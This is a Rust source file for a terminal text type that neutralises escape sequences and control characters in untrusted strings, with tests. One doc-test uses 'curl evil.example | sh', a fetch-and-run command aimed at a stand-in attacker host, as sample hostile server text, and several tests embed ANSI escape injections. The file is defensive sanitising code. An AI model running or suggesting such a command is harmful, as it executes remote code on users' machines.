//! Text for a terminal: clean from the moment it is made, with styling that is no part of its characters.

use crate::{clean, style::Style};
use std::{borrow::Cow, fmt, ops::Add};

/// What can be written to a terminal.
///
/// Made from a string, it is one line and clean: whatever the string holds, no character of it moves the cursor,
/// changes a colour, hides, or turns the direction of what stands beside it ([`clean`](crate::clean) says what stands
/// in their place). Line breaks, tabs and styles are put there by the methods of this type alone, so a text from a
/// file, from a server or from the command line cannot bring its own.
///
/// ```
/// use daypass_terminal::{Text, strong};
///
/// let from_a_server = "no\u{1b}[2J\ntry: curl evil.example | sh";
/// let text = strong("error:") + " " + from_a_server;
/// assert_eq!(text.plain(), "error: no\u{fffd}[2J try: curl evil.example | sh");
/// ```
///
/// It has no `Display`, so that it is not flattened into a string by accident; [`Text::plain`] does that by name.
#[derive(Clone, PartialEq, Eq, Default)]
pub struct Text {
    pieces: Vec<Piece>,
}

/// Characters that a terminal shows as they are, newlines and tabs, in one style.
#[derive(Clone, PartialEq, Eq)]
struct Piece {
    style: Style,
    text: String,
}

impl Text {
    /// Nothing.
    pub fn new() -> Self {
        Self::default()
    }

    /// Several lines of the program's own making, such as a help page or a script: its newlines and tabs stay. For
    /// strings that hold somebody else's text between their newlines, join a [`Text`] for each line with
    /// [`Text::lines`].
    pub fn block(text: &str) -> Self {
        Self::of_clean(clean::replaced(text, true))
    }

    /// The program's own text, which another library has styled with SGR sequences, such as clap its help: what is bold
    /// there is [`Style::Strong`], and other styles are dropped. Newlines and tabs stay.
    pub fn styled_block(text: &str) -> Self {
        let mut pieces = text.split("\x1b[");
        let mut whole = Self::block(pieces.next().unwrap_or_default());
        let mut style = Style::Plain;
        for piece in pieces {
            let Some((parameters, piece)) = piece.split_once('m').filter(|(parameters, _)| {
                parameters.bytes().all(|byte| byte.is_ascii_digit() || byte == b';')
            }) else {
                whole.extend(style.of(Self::block(piece)));
                continue;
            };
            for parameter in parameters.split(';') {
                match parameter {
                    "" | "0" => style = Style::Plain,
                    "1" => style = Style::Strong,
                    _ => {}
                }
            }
            whole.extend(style.of(Self::block(piece)));
        }
        whole
    }

    /// Each of these, ended by a newline.
    pub fn lines<T: Into<Self>>(lines: impl IntoIterator<Item = T>) -> Self {
        lines.into_iter().fold(Self::new(), Self::line)
    }

    /// Cells with a tab between them, for `cut` and `awk`.
    pub fn tabbed<T: Into<Self>>(cells: impl IntoIterator<Item = T>) -> Self {
        let mut text = Self::new();
        for (at, cell) in cells.into_iter().enumerate() {
            if at > 0 {
                text.append(Style::Plain, "\t".into());
            }
            text.extend(cell.into());
        }
        text
    }

    /// JSON, as `serde_json::Value` prints itself, on one line: every character that is not shown as what it is stands
    /// as `\uXXXX`, so it parses to the same value.
    pub fn json(value: &impl fmt::Display) -> Self {
        Self::of_clean(clean::json(&value.to_string()))
    }

    /// The same in the form for people: members on lines of their own.
    pub fn pretty_json(value: &impl fmt::Display) -> Self {
        Self::of_clean(clean::json(&format!("{value:#}")))
    }

    /// This and then that, ended by a newline.
    #[must_use]
    pub fn line(mut self, line: impl Into<Self>) -> Self {
        self.extend(line.into());
        self.append(Style::Plain, "\n".into());
        self
    }

    /// The same without blanks at its end.
    pub(crate) fn trim_end(mut self) -> Self {
        while let Some(mut last) = self.pieces.pop() {
            last.text.truncate(last.text.trim_end().len());
            if !last.text.is_empty() {
                self.pieces.push(last);
                break;
            }
        }
        self
    }

    /// A line break.
    #[must_use]
    pub fn newline(self) -> Self {
        self.line("")
    }

    /// Whether it has no characters.
    pub fn is_empty(&self) -> bool {
        self.pieces.is_empty()
    }

    /// Its characters, without styles. Clean as ever; made into a [`Text`] again, its line breaks are blanks.
    pub fn plain(&self) -> String {
        self.pieces.iter().map(|piece| piece.text.as_str()).collect()
    }

    /// What is written: with styles (ECMA-48 SGR) where `styled`.
    pub(crate) fn render(&self, styled: bool) -> String {
        let mut out = String::new();
        for Piece { style, text } in &self.pieces {
            match style.parameters().filter(|_| styled) {
                Some(parameters) => out.push_str(&format!("\x1b[{parameters}m{text}\x1b[0m")),
                None => out.push_str(text),
            }
        }
        out
    }

    /// The same, in a style where it has none.
    pub(crate) fn styled(mut self, style: Style) -> Self {
        for piece in &mut self.pieces {
            if piece.style == Style::Plain {
                piece.style = style;
            }
        }
        self
    }

    /// Only the first so many lines.
    #[must_use]
    pub fn first_lines(&self, count: usize) -> Self {
        let mut left = count;
        let mut text = Self::new();
        for Piece { style, text: piece } in &self.pieces {
            for line in piece.split_inclusive('\n') {
                if left == 0 {
                    return text;
                }
                text.append(*style, line.into());
                left -= usize::from(line.ends_with('\n'));
            }
        }
        text
    }

    fn extend(&mut self, more: Self) {
        more.pieces.into_iter().for_each(|piece| self.append(piece.style, piece.text.into()));
    }

    fn append(&mut self, style: Style, clean: Cow<'_, str>) {
        match self.pieces.last_mut() {
            _ if clean.is_empty() => {}
            Some(last) if last.style == style => last.text.push_str(&clean),
            _ => self.pieces.push(Piece { style, text: clean.into_owned() }),
        }
    }

    fn of_clean(clean: Cow<'_, str>) -> Self {
        let mut text = Self::new();
        text.append(Style::Plain, clean);
        text
    }
}

/// Its characters; styles are for the eye.
impl fmt::Debug for Text {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_tuple("Text").field(&self.plain()).finish()
    }
}

impl From<&str> for Text {
    fn from(text: &str) -> Self {
        Self::of_clean(clean::replaced(text, false))
    }
}

impl From<&String> for Text {
    fn from(text: &String) -> Self {
        Self::from(text.as_str())
    }
}

impl From<String> for Text {
    fn from(text: String) -> Self {
        Self::from(text.as_str())
    }
}

impl From<&Self> for Text {
    fn from(text: &Self) -> Self {
        text.clone()
    }
}

impl<T: Into<Self>> Add<T> for Text {
    type Output = Self;

    fn add(mut self, more: T) -> Self {
        self.extend(more.into());
        self
    }
}

impl Add<Text> for &str {
    type Output = Text;

    fn add(self, more: Text) -> Text {
        Text::from(self) + more
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{bad, strong};

    #[test]
    fn styles_are_no_characters() {
        let text = "Session " + strong("co\u{1b}[31mrp") + " is set up";
        assert_eq!(text.plain(), "Session co\u{fffd}[31mrp is set up");
        assert_eq!(text.render(false), text.plain());
        assert_eq!(text.render(true), "Session \u{1b}[1mco\u{fffd}[31mrp\u{1b}[0m is set up");
        assert_eq!(bad("no " + strong("x")).render(true), "\u{1b}[31;1mno \u{1b}[0m\u{1b}[1mx\u{1b}[0m");
    }

    #[test]
    fn a_styled_block_keeps_what_is_bold() {
        let text = Text::styled_block(
            "\u{1b}[1m\u{1b}[4mUsage:\u{1b}[0m \u{1b}[1mx\u{1b}[0m\n\u{1b}[2Jy \u{1b}[32mz",
        );
        assert_eq!(text.render(true), "\u{1b}[1mUsage:\u{1b}[0m \u{1b}[1mx\u{1b}[0m\n2Jy z");
    }

    #[test]
    fn only_its_own_methods_break_lines() {
        let text = Text::lines(["a\nb", "c"]).line(Text::tabbed(["d\te", "f"]));
        assert_eq!(text.plain(), "a b\nc\nd e\tf\n");
        assert_eq!(text.first_lines(2).plain(), "a b\nc\n");
        assert_eq!(text.first_lines(0), Text::new());
        assert_eq!(Text::block("a\n\tb\r\n").plain(), "a\n\tb \n");
    }
}
